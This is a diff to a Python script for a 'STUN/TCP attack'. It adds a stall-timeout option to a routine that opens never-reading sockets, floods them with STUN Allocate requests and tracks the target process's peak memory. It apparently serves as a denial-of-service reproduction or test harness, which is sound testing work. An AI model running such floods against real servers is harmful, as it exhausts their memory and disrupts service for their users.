@@ -160,13 +160,13 @@ def ping_frames(count):
 # MARK: - Rounds of the STUN/TCP attack
 
 
-def stun_tcp_rounds(host, port, pid, rounds, megabytes, connections):
+def stun_tcp_rounds(host, port, pid, rounds, megabytes, connections, stall):
     chunk = allocate_requests(2000)
     print(f"baseline VmRSS {rss_bytes(pid) / MIB:.0f} MiB")
     for round_number in range(1, rounds + 1):
         sockets = [never_reading_socket(host, port) for _ in range(connections)]
         with PeakRSS(pid) as peak:
-            outcomes = [flood(sock, chunk, megabytes * MIB // connections) for sock in sockets]
+            outcomes = [flood(sock, chunk, megabytes * MIB // connections, stall) for sock in sockets]
         for sock in sockets:
             sock.close()
         time.sleep(5)
@@ -186,7 +186,14 @@ if __name__ == "__main__":
     parser.add_argument("--rounds", type=int, default=3)
     parser.add_argument("--megabytes", type=int, default=48, help="Allocate requests sent per round")
     parser.add_argument("--connections", type=int, default=1)
+    parser.add_argument("--stall", type=float, default=10, help="seconds the server may take nothing before giving up")
     arguments = parser.parse_args()
     stun_tcp_rounds(
-        arguments.host, arguments.port, arguments.pid, arguments.rounds, arguments.megabytes, arguments.connections
+        arguments.host,
+        arguments.port,
+        arguments.pid,
+        arguments.rounds,
+        arguments.megabytes,
+        arguments.connections,
+        arguments.stall,
     )
